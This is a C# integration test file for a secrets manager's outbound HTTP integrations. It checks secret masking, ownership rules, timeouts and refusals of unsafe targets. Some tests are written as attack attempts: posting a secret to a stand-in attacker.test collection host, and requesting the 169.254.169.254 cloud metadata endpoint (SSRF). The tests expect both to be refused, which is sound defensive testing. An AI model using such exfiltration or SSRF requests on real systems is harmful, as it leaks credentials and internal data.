using System.Net;
using AngleSharp.Dom;
using AngleSharp.Html.Dom;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Ziggy.Secrets.Tests.Support;
using Ziggy.Secrets.Web.Accounts;
using Ziggy.Secrets.Web.Audit;
using Ziggy.Secrets.Web.Crypto;
using Ziggy.Secrets.Web.Integrations;

namespace Ziggy.Secrets.Tests.Integration.Integrations;

public class IntegrationRunTests : IAsyncLifetime
{
    private static readonly string ApiKey = "sk_live_CANARY+" + Guid.NewGuid().ToString("N") + "/é&\"x";
    private static readonly string Token = "tok CANARY " + Guid.NewGuid().ToString("N") + " ü+/=";
    private static readonly string Password = "pw-CANARY-" + Guid.NewGuid().ToString("N");

    private readonly ZiggyAppFactory _app;

    public IntegrationRunTests()
        : this(new ZiggyAppFactory(settings: new()
        {
            ["Ziggy:Integrations:AllowPrivateNetworks"] = "true",
            ["Ziggy:Integrations:TimeoutSeconds"] = "2",
        }))
    {
    }

    protected IntegrationRunTests(ZiggyAppFactory app) => _app = app;

    private StubServer _stub = null!;
    private ApplicationUser _owner = null!;
    private TestSession _olivia = null!;

    public async Task InitializeAsync()
    {
        _stub = await StubServer.StartAsync();
        _owner = await _app.SetUpAsync();
        _olivia = await _app.SignInAsync("owner@acme.test");
        await SecretsUi.CreateAsync(_olivia, "API_KEY", "", development: ApiKey, staging: ApiKey + "-stg");
        await SecretsUi.CreateAsync(_olivia, "TOKEN", "", development: Token, staging: Token + "-stg");
        await SecretsUi.CreateAsync(_olivia, "PASSWORD", "", development: Password, staging: Password + "-stg", production: Password + "-prd");
    }

    public async Task DisposeAsync()
    {
        _olivia.Dispose();
        await _stub.DisposeAsync();
        _app.Dispose();
    }

    private long Decrypts => _app.Services.GetRequiredService<ISecretCipher>().DecryptCount;

    private string EchoUrl => _stub.BaseUrl + "/echo";

    private static string? QueryValue(StubRequest request, string name) =>
        System.Web.HttpUtility.ParseQueryString(new Uri("http://x" + request.PathAndQuery).Query)[name];

    [Fact]
    public async Task Run_Development_StubGetsRealValuesWhileEverythingShownOrStoredIsMasked()
    {
        var (id, _) = await IntegrationsUi.SaveAsync(_olivia, "Charge", "POST",
            EchoUrl + "?key={{secrets.API_KEY}}", "Authorization: Bearer {{secrets.TOKEN}}\nX-Api-Key: {{ secrets.API_KEY }}", "{{secrets.PASSWORD}}");
        var before = Decrypts;

        var result = await IntegrationsUi.RunAsync(_olivia, id!.Value, "Development");

        // The stub got the real values.
        var received = Assert.Single(_stub.Received);
        Assert.Equal("Bearer " + Token, received.Headers["Authorization"]);
        Assert.Equal(ApiKey, received.Headers["X-Api-Key"]);
        Assert.Equal(Password, received.Body);
        Assert.Equal(ApiKey, QueryValue(received, "key"));

        // Exactly one decrypt per referenced secret.
        Assert.Equal(before + 3, Decrypts);

        // The page shows status and the redacted answer: masks instead of values, in every form.
        Assert.Equal("HTTP 200", result.QuerySelector("[data-testid=run-status]")!.TextContent);
        var history = Assert.Single(result.QuerySelectorAll("table.runs tbody tr")).TextContent;
        Assert.Contains("Olivia Owner", history);
        Assert.Contains("API_KEY, TOKEN, PASSWORD", history);
        var body = result.QuerySelector("[data-testid=run-body]")!.TextContent;
        Assert.Contains("sk_live_***", body);
        Assert.Contains("X-Echo-Auth: Bearer tok CANA***", result.QuerySelector("[data-testid=run-headers]")!.TextContent);
        var run = await _app.WithDbAsync(db => db.IntegrationRuns.SingleAsync());
        Assert.Equal("API_KEY,TOKEN,PASSWORD", run.SecretNames);
        Assert.Equal(200, run.StatusCode);
        Assert.Equal(SecretEnvironment.Development, run.Environment);
        Assert.Equal(_owner.Id, run.RunById);
        foreach (var canary in new[] { ApiKey, Token, Password })
        {
            _app.AssertNeverRevealed(canary);
            Assert.DoesNotContain(canary, run.ResponseBody + run.ResponseHeaders + run.Error);
        }
    }

    [Fact]
    public async Task Run_AnyMemberOfTheOrganization_MayRunASavedIntegration()
    {
        await _app.AddUserAsync(_owner.OrganizationId, "mia@acme.test", Role.Member, "Mia Member");
        var (id, _) = await IntegrationsUi.SaveAsync(_olivia, "Ping", "GET", EchoUrl + "?t={{secrets.TOKEN}}");
        using var mia = await _app.SignInAsync("mia@acme.test");

        var result = await IntegrationsUi.RunAsync(mia, id!.Value, "Staging");

        Assert.Equal("HTTP 200", result.QuerySelector("[data-testid=run-status]")!.TextContent);
        Assert.Equal(Token + "-stg", QueryValue(Assert.Single(_stub.Received), "t"));
        var run = await _app.WithDbAsync(db => db.IntegrationRuns.Include(r => r.RunBy).SingleAsync());
        Assert.Equal("Mia Member", run.RunBy!.DisplayName);
    }

    [Fact]
    public async Task Run_ProductionWithAMissingValue_IsRefusedBeforeAnyNetworkCall()
    {
        var (id, _) = await IntegrationsUi.SaveAsync(_olivia, "Prod call", "POST", EchoUrl, "Authorization: {{secrets.TOKEN}}", "{{secrets.PASSWORD}} {{secrets.API_KEY}}");
        var before = Decrypts;

        var result = await IntegrationsUi.RunAsync(_olivia, id!.Value, "Production");

        Assert.Equal("No Production value for: TOKEN, API_KEY. Nothing was sent.", result.QuerySelector("[data-testid=run-error]")!.TextContent.Trim());
        Assert.Empty(_stub.Received);
        Assert.Equal(before, Decrypts);
        var run = await _app.WithDbAsync(db => db.IntegrationRuns.SingleAsync());
        Assert.False(run.Succeeded);
        Assert.Null(run.StatusCode);
    }

    [Fact]
    public async Task Save_UnknownSecretName_IsRefusedNamingIt()
    {
        var (id, page) = await IntegrationsUi.SaveAsync(_olivia, "Typo", "GET", EchoUrl + "?k={{secrets.API_KEI}}&t={{secrets.TOKEN}}&x={{secrets.NOPE}}");

        Assert.Null(id);
        Assert.Contains("No secret is named API_KEI, NOPE: create it first, or correct the reference.", page.FormError());
        var row = page.QuerySelector("[data-testid=references] tr[data-secret=API_KEI]")!;
        Assert.Contains("No secret with this name", row.TextContent);
        var token = page.QuerySelector("[data-testid=references] tr[data-secret=TOKEN]")!.QuerySelectorAll("td").Select(c => c.TextContent.Trim()).ToList();
        Assert.Equal(["TOKEN", "Yes", "Yes", "No"], token.Take(4));
        Assert.Equal(0, await _app.WithDbAsync(db => db.Integrations.CountAsync()));
    }

    [Fact]
    public async Task Run_SecretRenamedAfterTheSave_IsRefusedAsUnknownBeforeAnyNetworkCall()
    {
        var (id, _) = await IntegrationsUi.SaveAsync(_olivia, "Renamed", "GET", EchoUrl + "?k={{secrets.API_KEY}}&t={{secrets.TOKEN}}");
        var secretId = await _app.WithDbAsync(db => db.Secrets.Where(s => s.Name == "API_KEY").Select(s => s.Id).SingleAsync());
        await SecretsUi.SaveAsync(_olivia, secretId, new() { ["Input.Name"] = "API_KEY_OLD" });

        var result = await IntegrationsUi.RunAsync(_olivia, id!.Value, "Development");

        Assert.Equal("Unknown secrets: API_KEY. Nothing was sent.", result.QuerySelector("[data-testid=run-error]")!.TextContent.Trim());
        Assert.Empty(_stub.Received);
    }

    [Fact]
    public async Task Save_WholeUrlFromASecret_IsAcceptedAndRunsThere()
    {
        await SecretsUi.CreateAsync(_olivia, "WEBHOOK", "", development: EchoUrl + "?via=webhook");

        var (id, page) = await IntegrationsUi.SaveAsync(_olivia, "Webhook", "POST", "{{secrets.WEBHOOK}}", "", "{{secrets.TOKEN}}");
        Assert.True(id is not null, page.FormError());
        var result = await IntegrationsUi.RunAsync(_olivia, id!.Value, "Development");

        Assert.Equal("HTTP 200", result.QuerySelector("[data-testid=run-status]")!.TextContent);
        var received = Assert.Single(_stub.Received);
        Assert.Equal("webhook", QueryValue(received, "via"));
        Assert.Equal(Token, received.Body);
    }

    [Fact]
    public async Task Run_UrlThatIsNotHttpAfterSubstitution_IsRefusedBeforeAnyNetworkCall()
    {
        await SecretsUi.CreateAsync(_olivia, "BASE", "", development: "ftp://files.example.test/drop");
        var (id, _) = await IntegrationsUi.SaveAsync(_olivia, "Base", "GET", "{{secrets.BASE}}/x?k={{secrets.TOKEN}}");

        var result = await IntegrationsUi.RunAsync(_olivia, id!.Value, "Development");

        Assert.Contains("not an absolute http:// or https:// URL", result.QuerySelector("[data-testid=run-error]")!.TextContent);
        Assert.Empty(_stub.Received);
    }

    [Fact]
    public async Task References_WhileTyping_ListsEachNameWithItsEnvironments()
    {
        var page = await _olivia.GetPageAsync("/Integrations/Edit");
        var token = page.QuerySelector<IHtmlInputElement>("input[name=__RequestVerificationToken]")!.Value;

        var response = await _olivia.PostFormAsync("/Integrations/Edit?handler=References", new()
        {
            ["__RequestVerificationToken"] = token, ["Input.Url"] = "https://x.test/{{secrets.PASSWORD}}", ["Input.Body"] = "{{secrets.NOPE}}",
        }, htmx: true);
        var fragment = await TestSession.ParseAsync(response);

        Assert.Equal(["PASSWORD", "Yes", "Yes", "Yes"], fragment.QuerySelector("tr[data-secret=PASSWORD]")!.QuerySelectorAll("td").Take(4).Select(c => c.TextContent.Trim()));
        Assert.Contains("No secret with this name", fragment.QuerySelector("tr[data-secret=NOPE]")!.TextContent);
    }

    [Fact]
    public async Task Save_MemberReferencingAnotherMembersSecret_IsRefusedNamingTheSecret()
    {
        await _app.AddUserAsync(_owner.OrganizationId, "mia@acme.test", Role.Member, "Mia Member");
        using var mia = await _app.SignInAsync("mia@acme.test");

        var (id, page) = await IntegrationsUi.SaveAsync(mia, "Exfiltrate", "POST", "https://attacker.test/collect", "", "{{secrets.PASSWORD}}");

        Assert.Null(id);
        Assert.Contains("This integration is owned by Mia Member, who may not change PASSWORD.", page.FormError());
        Assert.Equal(0, await _app.WithDbAsync(db => db.Integrations.CountAsync()));
    }

    [Fact]
    public async Task Run_OwnerLostTheRightToASecret_IsRefusedAtRunTime()
    {
        var mia = await _app.AddUserAsync(_owner.OrganizationId, "mia@acme.test", Role.Member, "Mia Member");
        using var miaSession = await _app.SignInAsync("mia@acme.test");
        await SecretsUi.CreateAsync(miaSession, "MIA_KEY", "", development: "mia-dev-value-123");
        var (id, _) = await IntegrationsUi.SaveAsync(miaSession, "Mine", "GET", EchoUrl + "?k={{secrets.MIA_KEY}}");
        Assert.NotNull(id);

        // Olivia (an admin) takes the secret over: Mia may no longer use it, even in her saved integration.
        var secretId = await _app.WithDbAsync(db => db.Secrets.Where(s => s.Name == "MIA_KEY").Select(s => s.Id).SingleAsync());
        var editor = await SecretsUi.EditPageAsync(_olivia, secretId);
        await _olivia.SubmitAsync(editor.Form("form.transfer"), new() { ["newOwnerId"] = _owner.Id.ToString() }, htmx: true);

        var result = await IntegrationsUi.RunAsync(miaSession, id!.Value, "Development");

        Assert.Equal("This integration is owned by Mia Member, who may not change MIA_KEY. Nothing was sent.",
            result.QuerySelector("[data-testid=run-error]")!.TextContent.Trim());
        Assert.Empty(_stub.Received);
        Assert.NotEqual(Guid.Empty, mia.Id);
    }

    [Theory]
    [InlineData("http://169.254.169.254/latest/meta-data/", "169.254.169.254 is a link-local")]
    [InlineData("http://[fe80::1]/", "link-local")]
    [InlineData("http://[64:ff9b::a9fe:a9fe]/", "169.254.169.254")]
    public async Task Run_LinkLocalTarget_IsAlwaysRefusedSayingWhatNotWhere(string url, string auditDetail)
    {
        var (id, _) = await IntegrationsUi.SaveAsync(_olivia, "Metadata", "GET", url, "X-Key: {{secrets.API_KEY}}");

        var result = await IntegrationsUi.RunAsync(_olivia, id!.Value, "Development");

        Assert.Equal("The destination is not a public address.", result.QuerySelector("[data-testid=run-error]")!.TextContent.Trim());
        Assert.DoesNotContain("169.254", result.Body!.TextContent);
        var audit = await _app.WithDbAsync(db => db.AuditEvents.Where(e => e.Action == AuditAction.IntegrationRun).Select(e => e.Details).SingleAsync());
        Assert.Contains(auditDetail, audit);
    }

    [Fact]
    public async Task Run_RedirectToARefusedAddress_IsNotFollowed()
    {
        var (id, _) = await IntegrationsUi.SaveAsync(_olivia, "Bouncer", "GET",
            _stub.BaseUrl + "/redirect?to=" + Uri.EscapeDataString("http://169.254.169.254/latest/"), "X-Key: {{secrets.API_KEY}}");

        var result = await IntegrationsUi.RunAsync(_olivia, id!.Value, "Development");

        Assert.Equal("HTTP 302", result.QuerySelector("[data-testid=run-status]")!.TextContent);
        Assert.Equal(IntegrationHttpClient.LeftOriginMessage, result.QuerySelector("[data-testid=run-error]")!.TextContent.Trim());
        Assert.Single(_stub.Received);
    }

    [Theory]
    [InlineData("GET", 302)]
    [InlineData("POST", 307)]
    [InlineData("PUT", 308)]
    public async Task Run_RedirectToAnotherOrigin_IsNotFollowedAndTheOtherOriginHearsNothing(string method, int status)
    {
        await using var other = await StubServer.StartAsync();
        var (id, _) = await IntegrationsUi.SaveAsync(_olivia, "Hop", method,
            _stub.BaseUrl + $"/redirect?status={status}&to=" + Uri.EscapeDataString(other.BaseUrl + "/echo?k={{secrets.API_KEY}}"),
            "Authorization: Bearer {{secrets.TOKEN}}", "{{secrets.PASSWORD}}");

        var result = await IntegrationsUi.RunAsync(_olivia, id!.Value, "Development");

        Assert.Equal($"HTTP {status}", result.QuerySelector("[data-testid=run-status]")!.TextContent);
        Assert.Equal(IntegrationHttpClient.LeftOriginMessage, result.QuerySelector("[data-testid=run-error]")!.TextContent.Trim());
        Assert.Equal("Bearer " + Token, Assert.Single(_stub.Received).Headers["Authorization"]);
        Assert.Empty(other.Received);
        Assert.Contains("Location: " + other.BaseUrl + "/echo?k=", result.QuerySelector("[data-testid=run-headers]")!.TextContent);
        foreach (var canary in new[] { ApiKey, Token, Password }) _app.AssertNeverRevealed(canary);
    }

    [Fact]
    public async Task Run_OutboundRequest_CarriesOnlyTheTemplateHeadersAndWhatHttpNeeds()
    {
        var (id, _) = await IntegrationsUi.SaveAsync(_olivia, "Plain", "POST", EchoUrl, "X-Key: {{secrets.API_KEY}}", "{{secrets.PASSWORD}}");
        using var activity = new System.Diagnostics.Activity("incoming request").Start();

        await IntegrationsUi.RunAsync(_olivia, id!.Value, "Development");

        var received = Assert.Single(_stub.Received);
        Assert.Equal(["Content-Length", "Content-Type", "Host", "User-Agent", "X-Key"], received.Headers.Keys.Order(StringComparer.OrdinalIgnoreCase));
        Assert.StartsWith("Ziggy-Secrets/", received.Headers["User-Agent"]);
    }

    [Fact]
    public async Task Run_SlowServer_TimesOutWithAClearMessage()
    {
        var (id, _) = await IntegrationsUi.SaveAsync(_olivia, "Slow", "GET", _stub.BaseUrl + "/slow", "X-Key: {{secrets.API_KEY}}");

        var result = await IntegrationsUi.RunAsync(_olivia, id!.Value, "Development");

        Assert.Equal("The request timed out after 2 seconds.", result.QuerySelector("[data-testid=run-error]")!.TextContent.Trim());
    }

    [Fact]
    public async Task Run_OversizedResponse_ReadsOnlyOneMiBAndSaysSo()
    {
        var (id, _) = await IntegrationsUi.SaveAsync(_olivia, "Big", "GET", _stub.BaseUrl + "/big?k={{secrets.API_KEY}}");

        var result = await IntegrationsUi.RunAsync(_olivia, id!.Value, "Development");

        Assert.Equal("HTTP 200", result.QuerySelector("[data-testid=run-status]")!.TextContent);
        Assert.Contains("larger than 1 MiB: only the first 1 MiB were read", result.QuerySelector("[data-testid=run-error]")!.TextContent);
        var run = await _app.WithDbAsync(db => db.IntegrationRuns.SingleAsync());
        Assert.True(run.Truncated);
        Assert.Equal(1024 * 1024, run.ResponseBody.Length);
    }

    [Fact]
    public async Task RunHistory_OfMegabyteResponses_ListsThemWithoutTheResponses_AndOpensOneWhenAsked()
    {
        var (id, _) = await IntegrationsUi.SaveAsync(_olivia, "Big", "GET", _stub.BaseUrl + "/big?k={{secrets.API_KEY}}");
        for (var run = 0; run < 3; run++) await IntegrationsUi.RunAsync(_olivia, id!.Value, "Development");

        // Each run's answer carries its own response once, and a history of three rows without theirs.
        var answer = await _olivia.SubmitAsync((await _olivia.GetPageAsync($"/Integrations/Edit?id={id}")).Form("form.run-form"),
            new() { ["environment"] = "Development" }, htmx: true);
        var answerText = await answer.Content.ReadAsStringAsync();
        Assert.InRange(answerText.Length, 1024 * 1024, 1024 * 1024 + 64 * 1024);
        var page = await _olivia.GetPageAsync($"/Integrations/Edit?id={id}");
        Assert.True(page.Source.Text.Length < 64 * 1024, $"The editor weighs {page.Source.Text.Length:N0} characters with four runs of 1 MiB.");
        var rows = page.QuerySelectorAll("tr[data-run]");
        Assert.Equal(4, rows.Length);
        Assert.All(rows, row => Assert.Equal("Response: 1,048,576 bytes (truncated)", row.QuerySelector("[data-testid=history-response] summary")!.TextContent.Trim()));
        Assert.All(rows, row => Assert.Null(row.QuerySelector("[data-testid=run-body]")));

        var oldest = await IntegrationsUi.OpenHistoryResponseAsync(_olivia, page, 3);
        Assert.Equal(new string('b', 1024 * 1024), oldest.QuerySelector("[data-testid=run-body]")!.TextContent);
        Assert.Contains("Content-Type: text/plain", oldest.QuerySelector("[data-testid=run-headers]")!.TextContent);
    }

    [Fact]
    public async Task Run_PrivateTargetWithoutTheSetting_IsRefusedAndTheStubHearsNothing()
    {
        using var strict = new ZiggyAppFactory();
        await strict.SetUpAsync();
        using var session = await strict.SignInAsync("owner@acme.test");
        await SecretsUi.CreateAsync(session, "API_KEY", "", development: ApiKey);
        var (id, _) = await IntegrationsUi.SaveAsync(session, "Local", "GET", EchoUrl + "?k={{secrets.API_KEY}}");

        var result = await IntegrationsUi.RunAsync(session, id!.Value, "Development");

        Assert.Equal("The destination is not a public address.", result.QuerySelector("[data-testid=run-error]")!.TextContent.Trim());
        Assert.DoesNotContain("127.0.0.1", result.Body!.TextContent);
        var audit = await strict.WithDbAsync(db => db.AuditEvents.Where(e => e.Action == AuditAction.IntegrationRun).Select(e => e.Details).SingleAsync());
        Assert.Contains("127.0.0.1 is a loopback address", audit);
        Assert.Empty(_stub.Received);
    }

    [Fact]
    public async Task SaveRestoreAndTransfer_AnswerTheEditorAsAFreshReadShowsIt_FromTheWritesOwnRead()
    {
        await IntegrationsUi.SaveAsync(_olivia, "Charge", "GET", EchoUrl + "?k={{secrets.API_KEY}}");
        var mia = await _app.AddUserAsync(_owner.OrganizationId, "mia@acme.test", Role.Member, "Mia Member");
        await _app.AddUserAsync(_owner.OrganizationId, "adam@acme.test", Role.Admin, "Adam Admin");
        using var adam = await _app.SignInAsync("adam@acme.test");
        var secretId = await _app.WithDbAsync(db => db.Secrets.Where(s => s.Name == "API_KEY").Select(s => s.Id).SingleAsync());

        // An administrator saves the owner's secret: the answer is the editor as it now is, and the integrations using the
        // secret were read once, with the write.
        var editor = await SecretsUi.EditPageAsync(adam, secretId);
        _app.LogLines.Clear();
        var saved = await TestSession.ParseAsync(await adam.SubmitAsync(editor.Form("#secret-form"), new() { ["Input.Development"] = "dev-value-2-abcdef" }, htmx: true));
        Assert.Single(_app.ExecutedStatements(), s => s.Contains("\"IntegrationSecretReferences\"", StringComparison.Ordinal));
        Assert.Equal("Used by 1 integration: Charge", saved.QuerySelector("[data-testid=used-by]")!.TextContent.Trim());
        Assert.Contains("UTC by Adam Admin (version 2)", saved.QuerySelector("dl.meta")!.TextContent);
        await AssertAnswerIsTheFreshEditorAsync(adam, secretId, saved);

        // Restoring the first Development value.
        var history = await TestSession.ParseAsync(await adam.GetAsync($"/Secrets?handler=History&id={secretId}&environment=Development", htmx: true));
        var restore = (IHtmlFormElement)history.QuerySelector("[data-testid=restore-Development-1]")!.Closest("form")!;
        var restored = await TestSession.ParseAsync(await adam.SubmitAsync(restore, htmx: true));
        Assert.Contains("(version 3)", restored.QuerySelector("dl.meta")!.TextContent);
        await AssertAnswerIsTheFreshEditorAsync(adam, secretId, restored);

        // Giving it to Mia: the answer names her as the owner.
        editor = await SecretsUi.EditPageAsync(adam, secretId);
        var transferred = await TestSession.ParseAsync(await adam.SubmitAsync((IHtmlFormElement)editor.QuerySelector("form.transfer")!,
            new() { ["newOwnerId"] = mia.Id.ToString() }, htmx: true));
        Assert.Equal("Mia Member", transferred.QuerySelector("[data-testid=owner]")!.TextContent.Trim());
        await AssertAnswerIsTheFreshEditorAsync(adam, secretId, transferred);

        // Renamed, the integration no longer uses it.
        editor = await SecretsUi.EditPageAsync(adam, secretId);
        var renamed = await TestSession.ParseAsync(await adam.SubmitAsync(editor.Form("#secret-form"), new() { ["Input.Name"] = "API_KEY_OLD" }, htmx: true));
        Assert.Equal("Used by 0 integrations", renamed.QuerySelector("[data-testid=used-by]")!.TextContent.Trim());
        await AssertAnswerIsTheFreshEditorAsync(adam, secretId, renamed);
    }

    /// <summary>The editor in a write's answer is, but for its antiforgery tokens, the editor opened afresh.</summary>
    private static async Task AssertAnswerIsTheFreshEditorAsync(TestSession session, Guid secretId, IHtmlDocument answer)
    {
        static string Editor(IHtmlDocument page) =>
            System.Text.RegularExpressions.Regex.Replace(page.QuerySelector("[data-testid=secret-editor]")!.OuterHtml, "CfDJ8[^\"]*", "token");
        Assert.Equal(Editor(await SecretsUi.EditPageAsync(session, secretId)), Editor(answer));
    }

    [Fact]
    public async Task SecretEditor_ShowsUsedByAndTheDeleteDialogWarns()
    {
        await IntegrationsUi.SaveAsync(_olivia, "Charge", "GET", EchoUrl + "?k={{secrets.API_KEY}}");
        await IntegrationsUi.SaveAsync(_olivia, "Refund", "POST", EchoUrl, "", "{{secrets.API_KEY}}");
        var secretId = await _app.WithDbAsync(db => db.Secrets.Where(s => s.Name == "API_KEY").Select(s => s.Id).SingleAsync());

        var editor = await SecretsUi.EditPageAsync(_olivia, secretId);
        Assert.Equal("Used by 2 integrations: Charge, Refund", editor.QuerySelector("[data-testid=used-by]")!.TextContent.Trim());
        // The editor reads the values and the integrations as two joined lists: each shows once, in its place.
        Assert.Equal(["Development", "Staging"], Enum.GetNames<SecretEnvironment>().Where(e => SecretsUi.MaskShown(editor, e) != "not set"));
        Assert.NotEqual(SecretsUi.MaskShown(editor, "Development"), SecretsUi.MaskShown(editor, "Staging"));

        var dialog = await TestSession.ParseAsync(await _olivia.GetAsync($"/Secrets?handler=Delete&id={secretId}", htmx: true));
        var warning = dialog.QuerySelector("[data-testid=breaks-integrations]")!.TextContent;
        Assert.Contains("Deleting this secret breaks 2 integrations", warning);
        Assert.Contains("Charge", warning);
        Assert.Contains("Refund", warning);
    }

    [Theory]
    [InlineData("Input.Url", "ftp://x.test/", "Input_Url-error", "Enter an absolute http:// or https:// URL (a secret may hold all of it, or its base, host or port).")]
    [InlineData("Input.Url", "", "Input_Url-error", "Enter the URL to call, for example https://api.example.com/v1/charges.")]
    [InlineData("Input.Headers", "not a header line", "Input_Headers-error", "Line 1 is not a header: write one \"Name: value\" per line.")]
    [InlineData("Input.Name", "", "Input_Name-error", "Enter a name for the integration.")]
    [InlineData("Input.Method", "TRACE", "Input_Method-error", "Choose one of GET, POST, PUT, PATCH, DELETE or HEAD.")]
    public async Task Save_InvalidTemplate_ErrorNextToTheField(string field, string value, string slot, string message)
    {
        var page = await _olivia.GetPageAsync("/Integrations/Edit");
        var values = new Dictionary<string, string> { ["Input.Name"] = "Valid", ["Input.Method"] = "GET", ["Input.Url"] = "https://x.test/", [field] = value };

        var result = await _olivia.SubmitAndFollowAsync(page.Form("#integration-form"), values);

        Assert.Equal(message, result.QuerySelector($"#{slot}")!.TextContent.Trim());
        Assert.Equal(0, await _app.WithDbAsync(db => db.Integrations.CountAsync()));
    }
}

/// <summary>The same tests on PostgreSQL.</summary>
[RequiresPostgres]
public sealed class IntegrationRunTestsOnPostgres() : IntegrationRunTests(new PostgresAppFactory());
